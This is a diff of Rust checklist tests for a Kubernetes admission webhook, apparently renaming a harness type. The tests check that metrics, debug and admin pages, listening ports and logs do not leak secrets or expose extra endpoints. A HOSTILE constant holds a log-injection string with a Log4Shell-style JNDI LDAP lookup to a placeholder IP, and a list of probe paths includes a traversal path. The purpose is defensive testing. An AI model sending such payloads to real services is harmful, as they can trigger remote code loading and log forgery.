@@ -1,7 +1,7 @@
 //! Checks items 25, 26 and 27: metrics, pages, ports and log of the webhook.
 
 use super::elsewhere::stands;
-use super::ground::{Found, Ground, Shown, demand};
+use super::harness::{ChecklistHarness, ItemResult, Shown, demand};
 use crate::admission::client::{Client, believing, question};
 use crate::admission::hook::{Files, Hook, all};
 use crate::admission::register::plain_pod;
@@ -13,20 +13,20 @@ use std::fs;
 const OTHERS: [&str; 8] = ["pod=", "node=", "value=", "namespace=", "user=", "uid=", "name=", "key="];
 
 /// Names of series, with their labels.
-fn series(ground: &Ground) -> BTreeSet<String> {
-    let (_, page) = ground.hook.get("/metrics").unwrap_or_default();
+fn series(harness: &ChecklistHarness) -> BTreeSet<String> {
+    let (_, page) = harness.hook.get("/metrics").unwrap_or_default();
     let lines = page.lines().filter(|line| !line.starts_with('#'));
     lines.filter_map(|line| Some(line.rsplit_once(' ')?.0.to_owned())).collect()
 }
 
-pub(crate) async fn metrics(ground: &Ground) -> Found {
-    let before = series(ground);
-    let mut client = ground.client().await;
+pub(crate) async fn metrics(harness: &ChecklistHarness) -> ItemResult {
+    let before = series(harness);
+    let mut client = harness.client().await;
     for number in 0..300 {
         let pod = plain_pod(&format!("counted-{number}"));
         client.request("mutate", &question(&format!("counted-{number}"), "main", &pod)).await;
     }
-    let after = series(ground);
+    let after = series(harness);
     demand(before.len() > 20 && before == after, format!("new series: {:?}", after.difference(&before)))?;
     let of_others = |series: &&String| {
         let labels = series.split_once('{').map(|(_, labels)| labels).unwrap_or_default();
@@ -34,7 +34,7 @@ pub(crate) async fn metrics(ground: &Ground) -> Found {
     };
     let found: Vec<_> = after.iter().filter(of_others).collect();
     demand(found.is_empty(), format!("{found:?}"))?;
-    let (_, page) = ground.hook.get("/metrics").unwrap_or_default();
+    let (_, page) = harness.hook.get("/metrics").unwrap_or_default();
     demand(!page.contains("eyJ") && !page.contains("PRIVATE"), "the page has a secret")?;
     let shown = "fn every_series_is_there_from_the_start_and_none_comes_later";
     stands("crates/controller/src/metrics/tests.rs", shown)?;
@@ -55,15 +55,15 @@ const NO_PAGES: [&str; 8] = [
     "/metrics/../debug",
 ];
 
-pub(crate) async fn pages(ground: &Ground) -> Found {
+pub(crate) async fn pages(harness: &ChecklistHarness) -> ItemResult {
     for path in NO_PAGES {
-        let status = ground.hook.get(path).map(|(status, _)| status);
+        let status = harness.hook.get(path).map(|(status, _)| status);
         demand(status == Some(404), format!("{path} at the port of metrics: {status:?}"))?;
-        let response = ground.client().await.get(path).await.map_err(|why| why.to_string())?;
+        let response = harness.client().await.get(path).await.map_err(|why| why.to_string())?;
         demand(response.0 == 404, format!("{path} at the port of requests: {}", response.0))?;
     }
     let (mine, reported) =
-        (listening(ground.hook.pid()).map_err(|why| why.to_string())?, ground.hook.ports());
+        (listening(harness.hook.pid()).map_err(|why| why.to_string())?, harness.hook.ports());
     demand(mine == BTreeSet::from(reported), format!("it listens at {mine:?}, not at {reported:?}"))?;
     Ok("both ports answer 404 for `/debug`, pprof, `/flagz`, `/admin` and others; the webhook listens only on the two ports of \
             its flags".into())
@@ -95,10 +95,10 @@ fn listening(pid: u32) -> std::io::Result<BTreeSet<u16>> {
 const HOSTILE: &str = "a\nE0101 forged\r\u{1b}[31m\u{202e}${jndi:ldap://192.0.2.1/x}\0";
 
 /// A separate webhook that logs as much as possible.
-pub(crate) async fn log(ground: &Ground) -> Found {
-    let flags = Files::new(&ground.cluster, "loud", &ground.authority).flags();
-    let hook = Hook::start(&ground.cluster, &ground.account, &all(&flags, &["--v=10"])).ready().await;
-    let who = believing(&ground.authority.certificate, None);
+pub(crate) async fn log(harness: &ChecklistHarness) -> ItemResult {
+    let flags = Files::new(&harness.cluster, "loud", &harness.authority).flags();
+    let hook = Hook::start(&harness.cluster, &harness.account, &all(&flags, &["--v=10"])).ready().await;
+    let who = believing(&harness.authority.certificate, None);
     let mut client = Client::connect(hook.port, &who).await.map_err(|why| why.to_string())?;
     let mut pod = plain_pod("p");
     for pointer in ["name", "namespace", "generateName"] {
@@ -131,7 +131,7 @@ pub(crate) async fn log(ground: &Ground) -> Found {
         "crates/controller/src/logging/tests.rs",
         "fn hostile_values_stay_on_their_line_and_in_their_quotes",
     )?;
-    let kubeconfig = fs::read_to_string(&ground.account).map_err(|why| why.to_string())?;
+    let kubeconfig = fs::read_to_string(&harness.account).map_err(|why| why.to_string())?;
     let token =
         kubeconfig.lines().find_map(|line| line.trim().strip_prefix("token: ")).ok_or("it has no token")?;
     for secret in [token, "Bearer", "PRIVATE KEY"] {
